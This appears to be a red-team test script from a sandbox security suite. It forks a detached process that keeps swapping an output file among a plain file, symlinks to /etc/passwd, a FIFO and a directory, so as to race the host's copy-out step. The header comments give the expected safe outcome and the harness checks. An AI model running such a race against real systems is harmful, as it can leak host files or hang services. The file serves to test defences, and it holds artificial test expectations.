# REDTEAM-ID: out_21_swap_race
# CATEGORY: output-tricks / race
# ATTACK: Time-of-check/time-of-use on copy-out. An orphan keeps replacing outputs/report.txt
#   with, in turn, a regular file, a symlink to /etc/passwd (and to the host canary path), a FIFO
#   and a directory holding a symlink, as fast as it can, while the main process exits. A copier
#   that lstat()s and then open()s, or lists and then reads, can be made to follow a link or block
#   on a FIFO. Run several times.
# EXPECTED SAFE OUTCOME: collection sees one frozen state (every process stopped first): either a
#   plain report.txt with benign content is delivered or the entry is rejected; no link is
#   followed; no hang.
# HARNESS CHECK: H_CANARY_FILE, H_COPY_NO_HANG, H_SAFE_MODES, H_NO_LEFTOVER.
# SAFETY BOUNDS: one child in the output dir only, exits by itself after 60 s.
# EXPECT-JSON: {"self_verdict": ["INFO"], "may_be_killed": false, "max_wall_s": 15, "host_checks": ["H_CANARY_FILE", "H_COPY_NO_HANG", "H_SAFE_MODES", "H_NO_LEFTOVER"]}
import json
import os
import shutil
import time

RID = "out_21_swap_race"
OUT = os.environ.get("REDTEAM_OUTPUT_DIR", "outputs")


def swap_forever():
    p = os.path.join(OUT, "report.txt")
    tmp = os.path.join(OUT, "swap.tmp")
    t0 = time.time()
    n = 0
    while time.time() - t0 < 60:
        n += 1
        try:
            if os.path.isdir(tmp) and not os.path.islink(tmp):
                shutil.rmtree(tmp)
            elif os.path.lexists(tmp):
                os.unlink(tmp)
            kind = n % 4
            if kind == 0:
                with open(tmp, "w") as f:
                    f.write("REDTEAM-BENIGN report\n")
            elif kind == 1:
                os.symlink("/etc/passwd" if n % 8 == 1 else "/tmp/REDTEAM_HOST_CANARY.txt", tmp)
            elif kind == 2:
                os.mkfifo(tmp)
            else:
                os.mkdir(tmp)
                os.symlink("/etc/passwd", os.path.join(tmp, "inner.txt"))
            if os.path.isdir(p) and not os.path.islink(p):
                shutil.rmtree(p)
            os.rename(tmp, p)
        except OSError:
            pass


def main():
    os.makedirs(OUT, exist_ok=True)
    with open(os.path.join(OUT, "report.txt"), "w") as f:
        f.write("REDTEAM-BENIGN report\n")
    if os.fork() == 0:
        os.setsid()
        for fd in (0, 1, 2):
            os.close(fd)
        swap_forever()
        os._exit(0)
    time.sleep(0.5)
    print(
        "REDTEAM_RESULT "
        + json.dumps(
            {"id": RID, "verdict": "INFO", "summary": "swapper left running", "details": {}}
        ),
        flush=True,
    )


if __name__ == "__main__":
    main()
